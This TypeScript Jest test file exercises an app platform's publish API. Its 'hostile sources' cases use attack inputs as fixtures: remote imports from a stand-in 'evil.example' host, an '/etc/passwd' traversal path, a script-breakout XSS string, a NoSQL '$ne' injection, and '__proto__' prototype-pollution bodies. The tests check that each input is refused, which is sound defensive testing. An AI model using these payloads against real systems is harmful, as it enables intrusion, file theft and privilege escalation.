import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { AppsUnderTest } from './apps-under-test.js';
import { project } from './project.js';

describe('publishing', () => {
  let apps: AppsUnderTest;
  beforeAll(async () => {
    apps = await AppsUnderTest.start();
  });
  afterAll(() => apps.stop());

  it('needs a page', async () => {
    const app = await apps.createApp();
    const refusal = {
      code: 'app/nothing-to-publish',
      message: 'There is nothing to publish yet. Describe your app in the chat first',
    };
    expect((await apps.api(app, 'POST', '/publish', {})).json.error).toEqual(refusal);
    await apps.commit(app, { files: project().slice(1) });
    const refused = await apps.api(app, 'POST', '/publish', {});
    expect([refused.status, refused.json.error]).toEqual([409, refusal]);
  });

  it('points visitors at one version until the next publishing', async () => {
    const app = await apps.createApp();
    const first = (await apps.commit(app)).json.versionId;
    const seen = async () => (await apps.onAppHost(app, '/runtime/bundle')).json.versionId;
    await apps.api(app, 'POST', '/publish', {});
    const second = (await apps.commit(app, { head: first, files: project('Second') })).json.versionId;
    expect(await seen()).toBe(first);
    expect((await apps.api(app, 'GET', '')).json).toMatchObject({
      status: 'active',
      head: second,
      published: first,
      url: `http://${app.slug}.localhost:4400`,
    });
    expect((await apps.api(app, 'POST', '/publish', {})).json.versionId).toBe(second);
    expect(await seen()).toBe(second);
    expect((await apps.api(app, 'POST', '/publish', { versionId: first })).json.versionId).toBe(first);
    expect(await seen()).toBe(first);
    expect((await apps.api(app, 'POST', '/publish', { versionId: first })).status).toBe(200);
    const off = await apps.api(app, 'POST', '/unpublish');
    expect(off.json).toMatchObject({ status: 'draft', published: null, url: null });
    expect((await apps.api(app, 'POST', '/unpublish')).status).toBe(200);
  });

  it('keeps what is published when the new version does not compile', async () => {
    const app = await apps.published();
    const before = (await apps.api(app, 'GET', '')).json;
    const broken = [...project(), { path: 'components/Broken.jsx', content: 'export default () => <p>' }].map((file) =>
      file.path === 'pages/Dogs.jsx'
        ? { ...file, content: `import Broken from '@/components/Broken';\n${file.content}` }
        : file,
    );
    await apps.commit(app, { head: before.head, files: broken });
    const refused = await apps.api(app, 'POST', '/publish', {});
    expect([refused.status, refused.json.code]).toEqual([422, 'app/does-not-compile']);
    expect(refused.json.error.details.diagnostics[0]).toMatchObject({
      file: 'components/Broken.jsx',
      line: 1,
      detectorId: 'syntax',
    });
    expect((await apps.onAppHost(app, '/runtime/bundle')).json.versionId).toBe(before.published);
  });

  it('follows a new main page', async () => {
    const app = await apps.createApp();
    await apps.commit(app, {
      files: [
        ...project(),
        { path: 'pages/About.jsx', content: 'export default function About() { return <p>About</p>; }' },
      ],
    });
    await apps.api(app, 'POST', '/publish', {});
    const before = (await apps.onAppHost(app, '/runtime/bundle')).json;
    expect(before.mainPage).toBe('Dogs');
    await apps.api(app, 'PATCH', '', { mainPage: 'About' });
    const after = (await apps.onAppHost(app, '/runtime/bundle')).json;
    expect(after.mainPage).toBe('About');
    expect(after.assets.js).not.toBe(before.assets.js);
  });
});

describe('hostile sources', () => {
  let apps: AppsUnderTest;
  beforeAll(async () => {
    apps = await AppsUnderTest.start();
  });
  afterAll(() => apps.stop());

  const page = (content: string) => [{ path: 'pages/Dogs.jsx', content }];

  it.each([
    ['a module of the server', "import fs from 'node:fs'; export default () => <p>{String(fs)}</p>;"],
    ['a script of another host', "import x from 'https://evil.example/x.js'; export default () => <p>{x}</p>;"],
    ['a data address', "import x from 'data:text/javascript,export default 1'; export default () => <p>{x}</p>;"],
    ['a file outside', "import x from '../../../etc/passwd'; export default () => <p>{x}</p>;"],
    ['a path made at run time', 'export default () => <p>{import(location.hash)}</p>;'],
    ['10,000 nested elements', `export default () => ${'<p>'.repeat(10_000)}${'</p>'.repeat(10_000)};`],
  ])('are not published: %s', async (_, source) => {
    const app = await apps.createApp();
    const committed = await apps.commit(app, { files: page(source) });
    expect(committed.status).toBe(201);
    expect((await apps.diagnostics(app, committed)).length).toBeGreaterThan(0);
    expect((await apps.api(app, 'POST', '/publish', {})).json.code).toBe('app/does-not-compile');
  });

  it('stay what they are when they only look like the end of a script', async () => {
    const app = await apps.createApp('</script><script>alert(1)</script>');
    const text = '</script><!-- <script>';
    expect(
      await apps.diagnostics(
        app,
        await apps.commit(app, { files: page(`export default () => <p title={${JSON.stringify(text)}}>x</p>;`) }),
      ),
    ).toEqual([]);
    await apps.api(app, 'POST', '/publish', {});
    const shell = await apps.onAppHost(app, '/');
    expect(shell.text).not.toContain('<script>alert(1)');
    expect((await apps.onAppHost(app, (await apps.onAppHost(app, '/runtime/bundle')).json.assets.js)).status).toBe(200);
  });

  it('are refused above the limits, without a library’s words', async () => {
    const app = await apps.createApp();
    const big = await apps.commit(app, { files: [{ path: 'pages/Big.jsx', content: 'x'.repeat(25 * 1_048_576) }] });
    expect([big.status, big.json.code]).toEqual([413, 'too-large']);
    const many = await apps.commit(app, {
      files: Array.from({ length: 2_001 }, (_, n) => ({ path: `components/C${n}.jsx`, content: '' })),
    });
    expect(many.status).toBe(422);
    expect((await apps.api(app, 'GET', '')).json.head).toBeNull();
  });

  it.each([
    '{',
    '[]',
    'null',
    '"x"',
    '{"name":{"$ne":1}}',
    '{"name":""}',
    `{"name":"${'x'.repeat(81)}"}`,
    '{"visibility":"everyone"}',
    '{"isSignupEnabled":"yes"}',
  ])('a change of %s is refused', async (body) => {
    const app = await apps.createApp();
    const answer = await apps.lathe.request('PATCH', `/api/apps/${app.appId}`, {
      token: app.token,
      body,
      headers: { 'content-type': 'application/json' },
    });
    expect([400, 422]).toContain(answer.status);
    expect(answer.text).not.toMatch(/zod|mongo|fastify|at \w+ \(/i);
    expect((await apps.api(app, 'GET', '')).json.name).toBe('Dog walks');
  });

  it('change nothing that a body may not name', async () => {
    const app = await apps.createApp();
    const other = await apps.createApp();
    const body =
      '{"name":"New","ownerId":"x","appId":"' +
      other.appId +
      '","published":"x","head":"x","seq":99,"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}';
    const answer = await apps.lathe.request('PATCH', `/api/apps/${app.appId}`, {
      token: app.token,
      body,
      headers: { 'content-type': 'application/json' },
    });
    expect([200, 400]).toContain(answer.status);
    expect((await apps.api(app, 'GET', '')).json).toMatchObject({ appId: app.appId, head: null, published: null });
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
  });
});
